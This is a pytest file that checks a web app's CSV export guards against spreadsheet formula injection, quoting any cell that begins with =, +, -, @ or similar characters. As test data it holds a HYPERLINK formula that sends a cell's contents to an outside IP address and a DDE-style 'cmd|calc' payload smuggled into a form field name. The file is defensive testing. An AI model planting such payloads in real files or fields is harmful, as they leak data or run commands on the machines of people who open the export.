"""Case 4: a cell that begins like a formula is text in the file, whoever wrote it."""

import csv
import io

import orjson
import pytest

from app.web.spreadsheet import plain_cell
from tests.abuse.conftest import Scene, put
from tests.doors.house import LANED, SETTINGS, laned_bundle, start

LINK = '=HYPERLINK("http://198.51.100.7/?"&A1,"点此")'
STARTS = "=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"


@pytest.mark.parametrize("dialect", ["sqlite"], indirect=True, scope="session")
def test_no_cell_of_a_file_begins_like_a_formula(scene: Scene) -> None:
    title = SETTINGS.replace('title = "门禁核验"', f"title = {orjson.dumps(LINK).decode()}")
    put(scene.app, laned_bundle(LANED.replace('name="填报申请"', 'name="@SUM(1+1)*cmd|calc"'), title))
    start(scene.api("liguifang"), "doors_check")
    answer = scene.page("liguifang").get("/inbox/export")
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert f"'{LINK}" in cells and "'@SUM(1+1)*cmd|calc" in cells
    assert not any(cell.startswith(STARTS) for cell in cells)
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("start_", STARTS)
def test_every_start_a_spreadsheet_reckons_is_made_text(start_: str) -> None:
    assert plain_cell(f"{start_}1+1") == f"'{start_}1+1"
    assert plain_cell(f"  {start_}=1") == f"'  {start_}=1"


@pytest.mark.parametrize("text", ["", "—", "农某", "2026-04-01", "'已是文本", "3-5 日", "…0131"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert plain_cell(text) == text
